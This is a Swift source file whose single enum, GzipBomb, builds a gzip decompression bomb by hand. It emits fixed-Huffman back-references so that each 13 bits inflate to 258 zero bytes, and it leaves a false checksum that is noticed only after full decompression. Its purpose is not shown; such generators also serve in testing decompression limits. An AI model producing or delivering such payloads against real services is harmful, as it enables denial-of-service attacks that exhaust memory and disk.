/// Compresses zeros by hand: 258 zeros take 13 bits.
enum GzipBomb {
  static func make(bytes: Int) -> [UInt8] {
    var bits = BitWriter()
    // One final block with fixed Huffman codes, starting with a literal zero.
    bits.write(0b1, count: 1)
    bits.write(0b01, count: 2)
    bits.writeCode(0b0011_0000, count: 8)
    for _ in 0..<(bytes / 258) {
      // Length 258, distance 1.
      bits.writeCode(0b1100_0101, count: 8)
      bits.writeCode(0, count: 5)
    }
    bits.writeCode(0, count: 7)
    // The checksum is wrong, but a reader notices only after decompressing everything.
    return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + bits.bytes + [UInt8](repeating: 0, count: 8)
  }

  private struct BitWriter {
    var bytes: [UInt8] = []
    private var used = 8

    mutating func write(_ value: UInt16, count: Int) {
      for position in 0..<count {
        if used == 8 {
          bytes.append(0)
          used = 0
        }
        if value >> UInt16(position) & 1 == 1 { bytes[bytes.count - 1] |= 1 << UInt8(used) }
        used += 1
      }
    }

    /// Writes a Huffman code, most significant bit first.
    mutating func writeCode(_ value: UInt16, count: Int) {
      for position in (0..<count).reversed() { write(value >> UInt16(position) & 1, count: 1) }
    }
  }
}
